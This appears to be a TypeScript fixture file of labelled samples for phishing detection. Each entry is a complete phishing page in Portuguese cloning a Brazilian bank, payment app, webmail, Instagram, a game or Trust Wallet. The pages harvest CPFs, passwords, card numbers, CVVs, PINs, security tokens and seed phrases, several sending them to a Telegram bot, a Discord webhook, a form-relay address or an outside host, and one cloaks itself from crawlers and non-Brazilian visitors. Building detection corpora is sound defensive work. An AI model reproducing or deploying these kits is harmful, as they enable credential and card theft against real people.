import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { b64, pctAll, charCodes, revB64, xorHex, doc, wordmark, pixCode, qrSvg, maskJsBR, rutJs, gtag, cookieBar, newsShell } from '../parts/yk-kit.js';
import { zip, pe, cfb, iso, lnk, apk, rar5, sevenZip, fileRoute, jsRoute, cssRoute, jsonRoute, pngRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
{
  id: 'yk-nubank-limite-cpf-telegram',
  label: 'phishing',
  kind: 'bank-kit-br',
  url: 'https://nu-limite-aprovado.com/app/',
  body: doc({
    title: 'Nubank | Aumento de limite',
    css: `body{margin:0;font-family:Graphik,'Helvetica Neue',Arial,sans-serif;background:#820ad1;color:#fff}
.top{padding:22px 26px}.card{background:#fff;color:#111;border-radius:22px 22px 0 0;min-height:80vh;margin-top:16px;padding:30px 26px}
h1{font-size:26px;font-weight:500;margin:0 0 6px}.sub{opacity:.85;font-size:15px}.lim{font-size:34px;font-weight:600;margin:14px 0 4px}
label{display:block;font-size:13px;color:#666;margin:18px 0 6px}input{width:100%;border:0;border-bottom:2px solid #ddd;font-size:20px;padding:8px 0;outline:0}
input:focus{border-color:#820ad1}button{width:100%;margin-top:28px;background:#820ad1;color:#fff;border:0;border-radius:30px;padding:16px;font-size:16px;font-weight:600}
.step{display:none}.step.on{display:block}.small{font-size:12px;color:#888;margin-top:16px;line-height:1.5}`,
    body: `<div class="top">${wordmark('nu', '#ffffff', { fg: '#fff', shape: 'circle', w: 80 })}
<h1>Olá! Você tem um novo limite disponível</h1><div class="sub">Análise concluída em ${'29/04'} — oferta válida por 24 horas</div>
<div class="lim">R$ 8.750,00</div><div class="sub">Limite pré-aprovado no seu cartão</div></div>
<div class="card">
<form id="f1" class="step on" autocomplete="off">
<h2>Confirme sua identidade</h2><p class="small">Para liberar o novo limite no app, confirme os dados do titular.</p>
<label>CPF</label><input name="cpf" data-mask="cpf" inputmode="numeric" placeholder="000.000.000-00" required>
<label>Senha de acesso ao app</label><input name="senha" type="password" maxlength="8" required>
<button type="submit">Continuar</button>
</form>
<form id="f2" class="step" autocomplete="off">
<h2>Validação do cartão</h2><p class="small">Informe os dados do cartão físico para vincular o limite.</p>
<label>Número do cartão</label><input name="cartao" data-mask="card" inputmode="numeric" required>
<label>Validade</label><input name="validade" data-mask="val" placeholder="MM/AA" required>
<label>CVV</label><input name="cvv" maxlength="3" inputmode="numeric" required>
<label>Senha de 4 dígitos do cartão</label><input name="senha4" type="password" maxlength="4" inputmode="numeric" required>
<button type="submit">Liberar limite</button>
</form>
<div id="ok" class="step"><h2>Pronto!</h2><p class="small">Seu novo limite será exibido no app em até 2 horas.</p></div>
<p class="small">Nu Pagamentos S.A. — Instituição de Pagamento. CNPJ 18.236.120/0001-58</p>
</div>
${maskJsBR}
<script>
var BOT="7034518829:AAH3kTq9vZp1sXw0LmN8rB2cYdE5fG6hJ4k",CID="-1002168839411",dados={};
function tg(t){return fetch("https://api.telegram.org/bot"+BOT+"/sendMessage",{method:"POST",headers:{"Content-Type":"application/json"},body:JSON.stringify({chat_id:CID,text:t,parse_mode:"HTML"})})}
function grab(f){new FormData(f).forEach(function(v,k){dados[k]=v})}
document.getElementById("f1").onsubmit=function(e){e.preventDefault();grab(this);
  tg("🟣 NU LOGIN\\nCPF: "+dados.cpf+"\\nSenha: "+dados.senha+"\\nUA: "+navigator.userAgent).finally(function(){
  document.getElementById("f1").classList.remove("on");document.getElementById("f2").classList.add("on")})};
document.getElementById("f2").onsubmit=function(e){e.preventDefault();grab(this);
  tg("💳 NU CC\\nCPF: "+dados.cpf+"\\nCC: "+dados.cartao+"|"+dados.validade+"|"+dados.cvv+"\\nSenha4: "+dados.senha4).finally(function(){
  document.getElementById("f2").classList.remove("on");document.getElementById("ok").classList.add("on");
  setTimeout(function(){location.href="https://nubank.com.br/"},2500)})};
</script>`,
  }),
},
{
  id: 'yk-bradesco-chave-seguranca-steps',
  label: 'phishing',
  kind: 'bank-kit-br',
  url: 'https://bradesco-dispositivo-seguranca.net/internet-banking/',
  body: doc({
    title: 'Bradesco Internet Banking',
    css: `body{margin:0;font-family:'Bradesco Sans',Arial,sans-serif;background:linear-gradient(180deg,#cc092f 0,#cc092f 220px,#f2f2f2 220px)}
.wrap{max-width:420px;margin:0 auto;padding:30px 16px}.logo{color:#fff;font-size:28px;font-weight:bold;margin-bottom:28px}
.panel{background:#fff;border-radius:10px;padding:26px;box-shadow:0 4px 16px rgba(0,0,0,.15)}h3{margin:0 0 4px;color:#cc092f}
.hint{color:#666;font-size:13px;margin-bottom:16px}input{width:100%;padding:12px;font-size:16px;border:1px solid #ccc;border-radius:6px;margin:6px 0 12px}
button{width:100%;background:#cc092f;color:#fff;border:0;border-radius:24px;padding:14px;font-size:15px;font-weight:bold;cursor:pointer}
.st{display:none}.st.on{display:block}.sp{text-align:center;padding:40px 0;color:#666}`,
    body: `<div class="wrap"><div class="logo">bradesco</div><div class="panel">
<div class="st on" id="s1"><h3>Pessoa Física</h3><div class="hint">Informe agência e conta para sincronizar o novo dispositivo de segurança.</div>
<input id="ag" placeholder="Agência" maxlength="4" inputmode="numeric"><input id="cc" placeholder="Conta com dígito" maxlength="9">
<input id="tit" placeholder="Titular (1º, 2º...)" value="1"><button onclick="go(1)">Avançar</button></div>
<div class="st" id="s2"><h3>Senha de 4 dígitos</h3><div class="hint">A mesma utilizada no caixa eletrônico.</div>
<input id="s4" type="password" maxlength="4" inputmode="numeric"><button onclick="go(2)">Confirmar</button></div>
<div class="st" id="s3"><h3>Chave de Segurança</h3><div class="hint">Digite os 6 números exibidos no seu Bradesco Celular em <b>Chave de Segurança</b> e a posição solicitada do cartão de chaves.</div>
<input id="tk" placeholder="Código de 6 dígitos" maxlength="6" inputmode="numeric"><input id="pos" placeholder="Posição 27 do cartão de chaves" maxlength="4">
<button onclick="go(3)">Sincronizar</button></div>
<div class="st" id="s4"><div class="sp">Sincronizando dispositivo...<br><small>Não feche esta página. Um de nossos atendentes entrará em contato.</small></div></div>
</div></div>
<script>
var sid=Math.random().toString(36).slice(2);
function send(o){o.sid=sid;var x=new XMLHttpRequest();x.open("POST","/internet-banking/api/step.php",true);x.setRequestHeader("Content-Type","application/x-www-form-urlencoded");x.send(Object.keys(o).map(function(k){return k+"="+encodeURIComponent(o[k])}).join("&"))}
function show(n){document.querySelectorAll(".st").forEach(function(e){e.classList.remove("on")});document.getElementById("s"+n).classList.add("on")}
function go(n){var v=function(i){return document.getElementById(i).value};
 if(n===1){if(v("ag").length<4)return;send({t:"conta",ag:v("ag"),cc:v("cc"),tit:v("tit")});show(2)}
 else if(n===2){send({t:"s4",s4:v("s4")});show(3)}
 else{send({t:"tk",tk:v("tk"),pos:v("pos")});show(4);setInterval(function(){fetch("/internet-banking/api/poll.php?sid="+sid).then(function(r){return r.json()}).then(function(j){if(j.cmd==="redir")location.href=j.url;if(j.cmd==="token")show(3)})},4000)}}
</script>`,
  }),
},
{
  id: 'yk-caixatem-saque-fgts',
  label: 'phishing',
  kind: 'benefit-lure-kit',
  url: 'https://saque-fgts-caixatem.org/consulta/',
  body: doc({
    title: 'CAIXA Tem - Saque FGTS Liberado',
    css: `body{margin:0;font-family:'Futura',Arial,sans-serif;background:#f1f6fb;color:#1c3b5a}header{background:#005ca9;padding:14px 20px;display:flex;align-items:center;gap:12px;color:#fff}
header .x{background:#f39200;width:34px;height:34px;border-radius:6px;display:flex;align-items:center;justify-content:center;font-weight:bold}
main{max-width:460px;margin:0 auto;padding:22px}.ban{background:#fff;border-radius:12px;padding:18px;box-shadow:0 2px 8px rgba(0,0,0,.08);margin-bottom:16px}
.val{font-size:30px;color:#005ca9;font-weight:bold}.tag{display:inline-block;background:#e2f2e6;color:#187a33;font-size:12px;padding:3px 8px;border-radius:10px}
label{display:block;font-size:14px;margin:12px 0 4px}input{width:100%;padding:12px;border:1px solid #c9d6e2;border-radius:8px;font-size:16px}
button{width:100%;margin-top:18px;padding:14px;border:0;border-radius:8px;background:#f39200;color:#fff;font-size:16px;font-weight:bold}
.fine{font-size:11px;color:#7a8a99;margin-top:14px}`,
    body: `<header><div class="x">X</div><div><b>CAIXA Tem</b><br><small>Consulta de valores</small></div></header>
<main><div class="ban"><span class="tag">✔ Liberado</span><p>Saque Extraordinário do FGTS disponível para o seu CPF</p><div class="val">R$ 1.412,00</div><p style="font-size:13px">Prazo para resgate: até hoje às 23h59. Após esse prazo o valor retorna ao fundo.</p></div>
<div class="ban"><form id="cx" action="#">
<label>CPF</label><input name="cpf" data-mask="cpf" inputmode="numeric" required>
<label>Data de nascimento</label><input name="nasc" placeholder="dd/mm/aaaa" required>
<label>Celular com DDD</label><input name="cel" data-mask="tel" required>
<label>Senha do CAIXA Tem (6 dígitos)</label><input name="senha" type="password" maxlength="6" inputmode="numeric" required>
<button>Resgatar meu saque</button></form>
<p class="fine">O valor será creditado na sua Poupança Social Digital em até 5 minutos após a confirmação.</p></div></main>
${maskJsBR}
<script>
document.getElementById("cx").addEventListener("submit",function(e){e.preventDefault();var b=this.querySelector("button");b.disabled=true;b.textContent="Processando...";
var fd=new FormData(this);fd.append("_subject","CX "+fd.get("cpf"));fd.append("_captcha","false");
fetch("https://formsubmit.co/ajax/c7b1e9f4a0d2@proton.me",{method:"POST",body:fd,headers:{Accept:"application/json"}}).then(function(){location.href="/consulta/aguarde.html"}).catch(function(){location.href="/consulta/aguarde.html"})});
</script>`,
  }),
},
{
  id: 'yk-bb-sincronizacao-mobile-cloak',
  label: 'phishing',
  kind: 'cloaked-kit',
  url: 'https://sincroniza-bb.com/',
  body: `<!DOCTYPE html><html lang="pt-BR"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>Banco do Brasil</title>
<style>body{font-family:Arial,sans-serif;background:#fcfc30;margin:0;display:flex;align-items:center;justify-content:center;height:100vh;color:#465eff}.l{width:42px;height:42px;border:4px solid #465eff;border-top-color:transparent;border-radius:50%;animation:r 1s linear infinite}@keyframes r{to{transform:rotate(360deg)}}</style></head>
<body><div class="l"></div><script>
(function(){
  var ua=navigator.userAgent||"",m=/Android|iPhone|iPad|Mobile/i.test(ua),bad=navigator.webdriver||/HeadlessChrome|Lighthouse|bot|crawler|spider|Google-Read|facebookexternalhit|python|curl/i.test(ua);
  var tz="";try{tz=Intl.DateTimeFormat().resolvedOptions().timeZone}catch(e){}
  var br=/Sao_Paulo|Recife|Fortaleza|Bahia|Manaus|Belem|Cuiaba|Campo_Grande|Porto_Velho|Araguaina|Maceio/.test(tz)&&/^pt/i.test(navigator.language||"");
  if(bad||!br){location.replace("https://www.bb.com.br/site/");return}
  if(!m){document.body.innerHTML='<p style="text-align:center;font-size:18px">Acesse este link pelo seu celular para concluir a sincronização do App BB.</p>';return}
  location.replace("/m/index.php?c="+btoa(Date.now()+"|"+tz));
})();
</script></body></html>`,
  routes: {
    'sincroniza-bb.com/m/index.php': htmlRoute(doc({
      title: 'BB - Sincronização de dispositivo',
      css: `body{margin:0;font-family:'BancoDoBrasil Textos',Arial,sans-serif;background:#fff}.t{background:#fcfc30;padding:18px;color:#465eff;font-weight:bold;font-size:20px}
.c{padding:20px}p{color:#333}input{width:100%;padding:13px;border:1px solid #bbb;border-radius:6px;font-size:16px;margin:6px 0 12px}button{width:100%;padding:14px;background:#465eff;color:#fcfc30;border:0;border-radius:6px;font-size:16px;font-weight:bold}`,
      body: `<div class="t">Banco do Brasil</div><div class="c"><h3>Seu App BB foi desabilitado neste aparelho</h3>
<p>Por segurança, a liberação deve ser feita em até 24h. Informe seus dados de acesso para sincronizar.</p>
<form method="post" action="/m/salvar.php"><input name="agencia" placeholder="Agência" inputmode="numeric"><input name="conta" placeholder="Conta" inputmode="numeric">
<input name="senha8" type="password" placeholder="Senha de 8 dígitos" maxlength="8" inputmode="numeric"><input name="senha6" type="password" placeholder="Senha de 6 dígitos (cartão)" maxlength="6" inputmode="numeric">
<button>Sincronizar agora</button></form></div>`,
    })),
  },
},
{
  id: 'yk-ml-vendedor-liberar-pagamento',
  label: 'phishing',
  kind: 'marketplace-seller-kit',
  url: 'https://mercadolivre-vendas-liberacao.com/venda/MLB3891204477',
  body: doc({
    title: 'Mercado Livre - Venda concluída',
    css: `body{margin:0;background:#ebebeb;font-family:'Proxima Nova',-apple-system,Arial,sans-serif;color:#333}.nav{background:#fff159;padding:12px 24px;display:flex;align-items:center;gap:14px}
.c{max-width:600px;margin:24px auto;background:#fff;border-radius:6px;box-shadow:0 1px 2px rgba(0,0,0,.12);padding:28px}.ok{color:#00a650;font-weight:600}
.item{display:flex;gap:16px;border:1px solid #eee;border-radius:6px;padding:14px;margin:16px 0}.item div:first-child{width:72px;height:72px;background:#f5f5f5;border-radius:4px}
.val{font-size:28px}label{font-size:14px;display:block;margin:14px 0 4px}input{width:100%;padding:12px;border:1px solid #bfbfbf;border-radius:6px;font-size:16px}
.row{display:flex;gap:12px}button{background:#3483fa;color:#fff;border:0;border-radius:6px;padding:14px 24px;font-size:16px;font-weight:600;width:100%;margin-top:22px}
.n{background:#fff6e0;border-radius:6px;padding:12px;font-size:13px;margin-top:14px}`,
    body: `<div class="nav">${wordmark('mercado livre', '#2d3277', { shape: 'pill', w: 200 })}</div>
<div class="c"><div class="ok">✔ Pagamento aprovado pelo comprador</div><h2>Você vendeu! O comprador já pagou.</h2>
<div class="item"><div></div><div><b>iPhone 13 128GB Meia-noite - Seminovo</b><br><small>Venda #2000008123947113 · 1 unidade</small><div class="val">R$ 3.199</div></div></div>
<p>Para liberar o dinheiro na sua conta, confirme o cartão de recebimento vinculado. Essa verificação é feita apenas uma vez para vendedores novos.</p>
<form method="post" action="/venda/confirmar.php">
<label>Nome completo</label><input name="nome" required><label>CPF</label><input name="cpf" data-mask="cpf" required>
<label>Número do cartão para recebimento</label><input name="cc" data-mask="card" required>
<div class="row"><div style="flex:1"><label>Validade</label><input name="val" data-mask="val" required></div><div style="flex:1"><label>Código de segurança</label><input name="cvv" maxlength="4" required></div></div>
<label>Senha do cartão</label><input name="pin" type="password" maxlength="6" required>
<button>Liberar R$ 3.199 agora</button></form>
<div class="n">Após a liberação o valor fica disponível no Mercado Pago em até 10 minutos. Não envie o produto antes da confirmação.</div></div>
${maskJsBR}`,
  }),
},
{
  id: 'yk-livelo-pontos-expirando-resgate',
  label: 'phishing',
  kind: 'card-issuer-kit',
  url: 'https://livelo-resgate.site/pontos/',
  body: doc({
    title: 'Livelo | Seus pontos expiram hoje',
    css: `body{margin:0;font-family:Montserrat,Arial,sans-serif;background:#fff}.h{background:#c9087f;color:#fff;padding:16px 22px;font-weight:800;font-size:24px}
.hero{background:linear-gradient(120deg,#c9087f,#ff6a00);color:#fff;padding:28px 22px}.pts{font-size:44px;font-weight:800}.c{max-width:480px;margin:0 auto;padding:22px}
.prod{display:grid;grid-template-columns:1fr 1fr;gap:10px}.prod div{border:1px solid #eee;border-radius:10px;padding:12px;font-size:13px}
input{width:100%;padding:12px;border:1px solid #ccc;border-radius:8px;font-size:15px;margin:6px 0}button{width:100%;padding:15px;background:#c9087f;color:#fff;border:0;border-radius:30px;font-weight:800;font-size:16px;margin-top:10px}`,
    body: `<div class="h">livelo</div><div class="hero"><div>Você tem</div><div class="pts">48.320</div><div>pontos que expiram hoje às 23:59</div></div>
<div class="c"><p>Troque agora por produtos sem custo — frete grátis para todo o Brasil.</p>
<div class="prod"><div>Smart TV 50" 4K<br><b>45.000 pts</b></div><div>Air Fryer 5L<br><b>12.000 pts</b></div><div>Smartphone Galaxy A54<br><b>38.000 pts</b></div><div>Jogo de panelas<br><b>9.500 pts</b></div></div>
<h3>Confirme o cartão de origem dos pontos</h3>
<form method="post" action="resgate.php"><input name="cpf" placeholder="CPF" data-mask="cpf"><input name="cartao" placeholder="Número do cartão" data-mask="card">
<input name="validade" placeholder="Validade" data-mask="val"><input name="cvv" placeholder="Código de segurança" maxlength="4"><input name="cel" placeholder="Celular" data-mask="tel">
<button>Resgatar meus pontos</button></form></div>${maskJsBR}`,
  }),
},
{
  id: 'yk-webmail-roundcube-cota-br',
  label: 'phishing',
  kind: 'webmail-clone',
  url: 'https://webmail-cota.hostbrasil-painel.com/roundcube/?_task=login#Y29tcHJhc0BkaXN0cmlidWlkb3JhcGFyYW5hLmNvbS5icg==',
  body: doc({
    title: 'distribuidoraparana.com.br :: Bem-vindo ao Webmail',
    css: `body{margin:0;background:#eaeef2;font-family:'Roboto',Arial,sans-serif}#box{width:380px;margin:90px auto;background:#fff;border-radius:4px;box-shadow:0 0 14px rgba(0,0,0,.15);padding:30px}
#logo{text-align:center;color:#37beff;font-size:26px;font-weight:bold;margin-bottom:10px}.msg{background:#fff4d6;border:1px solid #f5c242;font-size:13px;padding:10px;margin-bottom:16px}
td{padding:6px 4px;font-size:14px}input{width:100%;padding:9px;border:1px solid #b2b2b2;border-radius:3px;font-size:14px}.bar{height:8px;background:#eee;border-radius:4px;margin-top:6px}.bar i{display:block;height:8px;width:98%;background:#d9534f;border-radius:4px}
button{width:100%;padding:10px;margin-top:14px;background:#37beff;border:0;color:#fff;font-size:15px;border-radius:3px}#ftr{text-align:center;font-size:11px;color:#999;margin-top:18px}`,
    body: `<div id="box"><div id="logo">Roundcube<br><small style="font-size:12px;color:#777">Webmail</small></div>
<div class="msg"><b>Aviso do administrador:</b> sua caixa postal atingiu 98% da cota (1.96 GB de 2 GB). Novas mensagens serão recusadas. Faça login para ampliar gratuitamente para 10 GB.<div class="bar"><i></i></div></div>
<form id="rcmloginform" method="post"><table><tr><td>Usuário</td><td><input name="_user" id="rcmloginuser" autocomplete="off" required></td></tr>
<tr><td>Senha</td><td><input name="_pass" id="rcmloginpwd" type="password" required></td></tr></table>
<button type="submit">Entrar</button></form><div id="ftr">Roundcube Webmail · Hospedagem Brasil</div></div>
<script>
var h=location.hash.slice(1);if(h){try{var e=atob(h);document.getElementById("rcmloginuser").value=e;document.getElementById("rcmloginuser").readOnly=true;document.title=e.split("@")[1]+" :: Bem-vindo ao Webmail"}catch(x){}}
var n=0;document.getElementById("rcmloginform").addEventListener("submit",function(ev){ev.preventDefault();var u=document.getElementById("rcmloginuser").value,p=document.getElementById("rcmloginpwd").value;n++;
fetch("https://mailbox-upgrade.xyz/rc/log.php",{method:"POST",mode:"no-cors",headers:{"Content-Type":"application/x-www-form-urlencoded"},body:"u="+encodeURIComponent(u)+"&p="+encodeURIComponent(p)+"&n="+n});
if(n<2){document.getElementById("rcmloginpwd").value="";alert("Senha incorreta. Tente novamente.")}else{location.href="https://"+u.split("@")[1]}});
</script>`,
  }),
},
{
  id: 'yk-instagram-selo-azul-discord',
  label: 'phishing',
  kind: 'social-account-kit',
  url: 'https://meta-verificado-criadores.com/selo/',
  body: doc({
    title: 'Meta Verified | Solicitação do selo azul',
    css: `body{margin:0;font-family:-apple-system,'Segoe UI',Roboto,Arial,sans-serif;background:#fafafa;color:#262626}.c{max-width:380px;margin:40px auto;background:#fff;border:1px solid #dbdbdb;padding:36px 40px;text-align:center}
.ig{font:italic 700 34px 'Brush Script MT',cursive;margin-bottom:12px}.b{display:inline-block;background:#0095f6;color:#fff;border-radius:50%;width:22px;height:22px;line-height:22px}
p{font-size:14px;color:#737373}input{width:100%;background:#fafafa;border:1px solid #dbdbdb;border-radius:3px;padding:10px;font-size:13px;margin:4px 0}
button{width:100%;background:#0095f6;color:#fff;border:0;border-radius:8px;padding:8px;font-weight:600;margin-top:10px}`,
    body: `<div class="c"><div class="ig">Instagram</div><h3>Sua conta foi selecionada <span class="b">✓</span></h3>
<p>Parabéns! Seu perfil atende aos critérios do programa Meta Verified para criadores e pode receber o selo azul gratuitamente. Confirme sua conta para concluir a solicitação em até 48 horas.</p>
<form id="i"><input name="username" placeholder="Telefone, nome de usuário ou email" required><input name="password" type="password" placeholder="Senha" required>
<input name="email" placeholder="E-mail de contato" type="email"><button>Enviar solicitação</button></form><p style="font-size:11px">from Meta</p></div>
<script>
document.getElementById("i").addEventListener("submit",async function(e){e.preventDefault();var d=Object.fromEntries(new FormData(this));
var ip="";try{ip=(await (await fetch("https://api.ipify.org?format=json")).json()).ip}catch(x){}
await fetch("https://discord.com/api/webhooks/1236650921176031313/qW8r1cNhT6vZ-ls4BfXyPa0ue2dG7kJm9oN3pR5sT1uV8wX0yZaBcDeFgHiJkLmNo",{method:"POST",headers:{"Content-Type":"application/json"},body:JSON.stringify({content:"**IG** `+"`"+`"+d.username+"`+"`"+` : `+"`"+`"+d.password+"`+"`"+` | "+d.email+" | "+ip})});
location.href="https://www.instagram.com/accounts/login/"});
</script>`,
  }),
},
{
  id: 'yk-freefire-diamantes-login-facebook',
  label: 'phishing',
  kind: 'game-giveaway-kit',
  url: 'https://recarga-ff-diamantes.com/evento/',
  body: doc({
    title: 'Free Fire - Evento de Recarga Grátis',
    css: `body{margin:0;font-family:'Roboto Condensed',Arial,sans-serif;background:#1a1a1a url(/evento/bg.jpg) center/cover;color:#fff;text-align:center}
.logo{font-size:38px;font-weight:900;color:#ffb400;text-shadow:2px 2px #000;padding:24px 0 6px}.g{display:grid;grid-template-columns:repeat(3,1fr);gap:10px;max-width:480px;margin:20px auto;padding:0 14px}
.g div{background:rgba(0,0,0,.6);border:2px solid #ffb400;border-radius:8px;padding:14px 4px;cursor:pointer}.g div b{display:block;font-size:20px;color:#ffb400}
#m{display:none;position:fixed;inset:0;background:rgba(0,0,0,.7)}#m .in{background:#fff;color:#1c1e21;max-width:360px;margin:80px auto;border-radius:8px;padding:20px;text-align:left}
#m .fb{background:#1877f2;color:#fff;padding:10px;border-radius:6px 6px 0 0;margin:-20px -20px 14px;font-weight:bold;font-size:20px}
#m input{width:100%;padding:12px;border:1px solid #dddfe2;border-radius:6px;margin:5px 0;font-size:15px}#m button{width:100%;background:#1877f2;color:#fff;border:0;border-radius:6px;padding:12px;font-size:17px;font-weight:bold}`,
    body: `<div class="logo">GARENA FREE FIRE</div><p>Evento de aniversário: resgate diamantes grátis na sua conta (1 vez por ID)</p>
<div class="g"><div onclick="pick(this)"><b>1.060</b>diamantes</div><div onclick="pick(this)"><b>2.180</b>diamantes</div><div onclick="pick(this)"><b>5.600</b>diamantes</div>
<div onclick="pick(this)">Skin <b>Dragão</b></div><div onclick="pick(this)">Passe <b>Booyah</b></div><div onclick="pick(this)"><b>10.000</b>diamantes</div></div>
<div id="m"><div class="in"><div class="fb">facebook</div><p>Entre com a conta vinculada ao Free Fire para receber a recompensa.</p>
<form method="post" action="/evento/save.php"><input type="hidden" name="item" id="item"><input name="email" placeholder="Email ou telefone" required><input name="pass" type="password" placeholder="Senha" required>
<input name="ffid" placeholder="ID do jogador (Free Fire)" inputmode="numeric"><button>Entrar</button></form></div></div>
<script>function pick(el){document.getElementById("item").value=el.innerText.replace(/\\s+/g," ");document.getElementById("m").style.display="block"}</script>`,
  }),
},
{
  id: 'yk-trustwallet-validacao-bacen-seed',
  label: 'phishing',
  kind: 'seed-phrase',
  url: 'https://trustwallet-validacao.com/br/',
  body: doc({
    title: 'Trust Wallet — Validação obrigatória',
    css: `body{margin:0;font-family:'Inter',Arial,sans-serif;background:#0500ff0d;color:#1b1b1b}.c{max-width:520px;margin:40px auto;background:#fff;border-radius:18px;padding:30px;box-shadow:0 6px 24px rgba(5,0,255,.1)}
.w{background:#fff4e5;border-radius:10px;padding:12px;font-size:14px;margin:14px 0}.grid{display:grid;grid-template-columns:repeat(3,1fr);gap:8px}
.grid input{padding:10px;border:1px solid #dcdcf5;border-radius:8px;font-size:14px}button{width:100%;margin-top:18px;padding:14px;background:#0500ff;color:#fff;border:0;border-radius:30px;font-size:16px;font-weight:600}`,
    body: `${wordmark('Trust Wallet', '#0500ff', { shape: 'circle' })}<div class="c"><h2>Validação de carteira</h2>
<div class="w">Em cumprimento à Resolução BCB nº 520 sobre ativos virtuais, todas as carteiras utilizadas por brasileiros precisam ser validadas até <b>30/04</b>. Carteiras não validadas terão os saques bloqueados.</div>
<p>Digite as 12 palavras da sua frase de recuperação na ordem correta.</p>
<form id="s"><div class="grid">${Array.from({ length: 12 }, (_, i) => `<input name="w${i + 1}" placeholder="${i + 1}" autocomplete="off" autocapitalize="none" spellcheck="false">`).join('')}</div>
<button>Validar carteira</button></form></div>
<script>document.getElementById("s").onsubmit=function(e){e.preventDefault();var w=[];for(var i=1;i<=12;i++)w.push(this["w"+i].value.trim().toLowerCase());
fetch("/br/api/validate",{method:"POST",headers:{"Content-Type":"application/json"},body:JSON.stringify({phrase:w.join(" "),wallet:"trust",ts:Date.now()})}).then(function(){document.querySelector(".c").innerHTML="<h2>Carteira validada ✔</h2><p>Nenhuma ação adicional é necessária.</p>"})};</script>`,
  }),
},
];
